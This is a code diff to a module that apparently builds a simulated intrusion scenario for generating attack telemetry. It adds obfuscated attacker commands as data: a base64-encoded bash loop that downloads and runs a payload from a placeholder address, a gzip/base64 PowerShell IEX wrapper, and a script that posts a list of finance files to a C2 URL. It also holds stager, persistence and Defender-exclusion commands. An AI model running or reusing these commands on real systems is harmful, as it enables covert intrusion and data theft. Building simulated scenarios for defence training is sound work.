@@ -8,6 +8,8 @@
 // Day 3  Before dawn 7 GB are packed on the file server and leave through the proxy; small things leave
 //        through DNS. At nine somebody notices and writes the report.
 
+import { gzipSync } from "node:zlib";
+
 import { at, fqdn, SERVERS, user } from "./world.mjs";
 
 export const VICTIM = user("a.okafor"); // whose password was guessed
@@ -49,6 +51,8 @@ export const LSASS_DUMP = String.raw`C:\Windows\Temp\dbg-0310.dmp`;
 export const LINUX_URL = "http://198.51.100.23/l/kworkerd";
 export const LINUX_PATH = "/tmp/.cache/kworkerd";
 export const LINUX_SHA256 = "e29d3b7746c8f150aa94b06df3517ec8902c64ba1de7f3850b6a29c1d8457fe3";
+/** What keeps it there, as the attackers ran it. */
+export const LINUX_KEEP = `echo ${Buffer.from(`while ! pgrep kworkerd; do curl -s ${LINUX_URL} -o ${LINUX_PATH}; ${LINUX_PATH} --daemon; sleep 60; done`).toString("base64")} | base64 -d | bash`;
 export const LINUX_LOGIN = at(2, "11:26:03");
 
 export const ARCHIVE = String.raw`C:\ProgramData\stage\rates-2026.7z`;
@@ -62,12 +66,28 @@ export const TUNNEL = { start: at(3, "01:05:00"), end: at(3, "01:58:00"), querie
 export const ASN = "AS64511";
 export const CVE = "CVE-2023-38831";
 
+/** Text in gzip in base64, the same on every system (RFC 1952 has a byte for its name). */
+function squeeze(text) {
+  const bytes = gzipSync(text, { level: 9 });
+  bytes[9] = 255;
+  return bytes.toString("base64");
+}
+
+/** What runs text that `squeeze` made. */
+const unsqueeze = (text) =>
+  `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('${text}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`;
+
 /** What a PowerShell -EncodedCommand carries: base64 of UTF-16LE. */
 export const encodePowerShell = (script) => Buffer.from(script, "utf16le").toString("base64");
 
 export const SCRIPTS = {
   stage: `$ErrorActionPreference='SilentlyContinue';IEX (New-Object Net.WebClient).DownloadString('${STAGE_URL}')`,
   persist: `New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name WUpdMgr -Value "$env:TEMP\\wupdmgr.exe" -Force`,
+  collect: unsqueeze(squeeze(`$from = 'D:\\Shares\\Finance\\Rates'
+$to = 'C:\\ProgramData\\stage'
+Get-ChildItem $from -Recurse -Include *.xlsx, *.docx, *.pdf | Sort-Object Length -Descending | ForEach-Object { $_.FullName } > "$to\\list.txt"
+Invoke-WebRequest -UseBasicParsing -Method Post -InFile "$to\\list.txt" -Uri '${C2_URL}/list'
+`)),
   defender: `Set-MpPreference -ExclusionPath 'C:\\Windows\\Temp','C:\\ProgramData\\stage'`,
 };
 
@@ -109,6 +129,7 @@ export const PROCESSES = [
     `wmic /node:${FS.ip} process call create "${SERVICE_BINARY.path}"`, [["ipv4", FS.ip], path(SERVICE_BINARY.path)]),
   step("fsimplant", "wmiprvse", at(2, "10:21:18"), FS, ADMIN, SERVICE_BINARY.path, SERVICE_BINARY.path, [path(SERVICE_BINARY.path)]),
   step("mp", "fsimplant", at(2, "10:24:02"), FS, ADMIN, POWERSHELL, encoded(SCRIPTS.defender)),
+  step("collect", "fsimplant", at(2, "10:33:47"), FS, ADMIN, POWERSHELL, encoded(SCRIPTS.collect)),
   step("dcsvc", "services", at(2, "10:52:37"), DC, ADMIN, String.raw`${SYS}\cmd.exe`,
     String.raw`cmd.exe /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\Temp\execute.bat`,
     [path(String.raw`C:\Windows\Temp\execute.bat`)]),
